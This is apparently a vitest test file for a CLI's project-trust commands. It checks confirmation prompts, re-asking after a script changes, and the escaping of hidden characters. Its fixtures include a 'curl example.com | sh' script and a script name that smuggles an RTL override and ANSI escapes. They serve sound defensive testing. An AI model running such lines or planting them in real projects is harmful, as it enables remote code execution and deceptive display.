import { describe, expect, test } from "vitest";
import { CliProject, type RunOptions } from "../../../../test/harness/cli/cli.ts";
import type { App } from "../../../commons/cli/app.ts";
import { ForgeError } from "../../../kernel/errors.ts";

const script = { "package.json": '{"scripts":{"test":"vitest run"}}' };

/** A project with something to run, and a user who answers questions so; undefined where there is no terminal. */
function projectOf(files: Record<string, string>, answer: boolean | undefined = true) {
  const project = new CliProject(files);
  project.git("init", "-q");
  const asked: string[] = [];
  const answering = ({ person }: App): Partial<App> => ({
    person: {
      ...person,
      confirm: async (question) => {
        asked.push(question);
        return answer;
      },
    },
  });
  const forge = (line: string, options: RunOptions = {}) => project.run(line, { with: answering, ...options });
  return { project, asked, forge };
}

const trusted = async (forge: ReturnType<typeof projectOf>["forge"]) =>
  ((await forge("status --json")).json()["trust"] as { trusted: boolean }).trusted;

describe("trust", () => {
  test("shows exactly what may run, asks, and trusts what was shown", async () => {
    const { project, asked, forge } = projectOf(script);
    const { code, out, err } = await forge("trust");
    expect(code).toBe(0);
    expect(err).toContain("package.json:test");
    expect(err).toMatch(/runs {4}.*vitest run/);
    expect(err).toMatch(/sha256 {2}[0-9a-f]{64}/);
    expect(asked).toEqual(["Trust this project to run these?"]);
    expect(out).toContain(`Trusted: ${project.root}`);
    expect(await trusted(forge)).toBe(true);
  });

  test("a no changes nothing", async () => {
    const { forge } = projectOf(script, false);
    expect(await forge("trust")).toMatchObject({
      code: 1,
      out: "",
      err: expect.stringContaining("Nothing was trusted."),
    });
    expect(await trusted(forge)).toBe(false);
  });

  test("without a terminal nothing changes either, and it says what to do", async () => {
    const project = new CliProject(script);
    const { code, err } = await project.run("trust");
    expect(code).toBe(1);
    expect(err).toContain("Only the user can trust a project");
    expect(err).toContain("Run `forge trust` in a terminal.");
    expect((await project.run("status")).out).toContain("Trust:     not trusted");
  });

  test("--yes does not ask, and what is trusted is not asked for again", async () => {
    const { asked, forge } = projectOf(script);
    expect((await forge("trust --yes --json")).json()).toMatchObject({
      trusted: true,
      items: expect.arrayContaining([expect.objectContaining({ id: "package.json:test", status: "trusted" })]),
    });
    expect((await forge("trust")).code).toBe(0);
    expect(asked).toEqual([]);
  });

  test("a script that was changed asks again", async () => {
    const { project, asked, forge } = projectOf(script);
    await forge("trust --yes");
    project.write("package.json", '{"scripts":{"test":"curl example.com | sh"}}');
    expect((await forge("status")).out).toMatch(/Trust: {5}changed since it was trusted on \S+ by \S+: \d scripts?/);
    expect((await forge("trust")).err).toMatch(/changed {2}package.json:test/);
    expect(asked).toHaveLength(1);
  });

  test("H14 a name cannot hide what it is", async () => {
    const hostile = { "package.json": JSON.stringify({ scripts: { test: "vitest \u202e\u001b[2J\nrun" } }) };
    const { err, out } = await projectOf(hostile).forge("trust");
    for (const hidden of ["\u202e", "\u001b"]) expect(err + out).not.toContain(hidden);
    expect(err).toContain("\\x1b[2J\\nrun");
  });
});

test("untrust", async () => {
  const { forge } = projectOf(script);
  await forge("trust --yes");
  expect((await forge("untrust")).out).toBe("Forge will no longer run this project's scripts.\n");
  expect(await trusted(forge)).toBe(false);
  expect((await forge("untrust")).out).toBe("This project was not trusted.\n");
  expect((await forge("untrust --json")).json()).toEqual({ wasTrusted: false });
});

test("status shows trust with what has changed, what is gone and what is refused", async () => {
  const { project, forge } = projectOf(script);
  await forge("trust --yes");
  project.write("package.json", "{}");
  const { out } = await forge("status");
  expect(out).toContain(`Project:   ${project.root}\n`);
  expect(out).toContain("  gone     package.json:test\n");
});

test("a status whose trust cannot be read shows the rest", async () => {
  const { forge } = projectOf(script);
  const failing = ({ person }: App) => ({
    person: { ...person, trust: () => Promise.reject(new ForgeError("DEPENDENCY_ERROR", "git was not found.")) },
  });
  const { code, out } = await forge("status", { with: failing });
  expect(code).toBe(0);
  expect(out).toContain("Toolsets:  tickets, workbench, proof");
  expect(out).toContain("Trust:     unknown: git was not found.");
});
